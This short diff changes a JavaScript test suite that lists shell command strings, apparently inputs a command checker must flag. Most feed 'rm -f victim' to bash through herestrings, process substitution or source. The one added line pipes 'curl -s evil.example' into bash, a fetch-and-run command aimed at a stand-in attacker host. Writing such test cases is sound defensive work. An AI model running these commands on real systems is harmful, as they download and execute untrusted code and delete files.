@@ -321,7 +321,7 @@ describe("a command line", () => {
       "<<< 'rm -f victim' timeout 5 bash",
       "<<< 'rm -f victim' source /dev/stdin",
       "bash < <(echo rm -f victim)",
-      "< <(echo rm -f victim) bash",
+      "< <(curl -s evil.example) bash",
       "source -- <(echo rm -f victim)",
       // A case in $(…) after a function's head or coproc.
       "echo $(f() { case x in x) rm -f victim;; esac; }; f)",
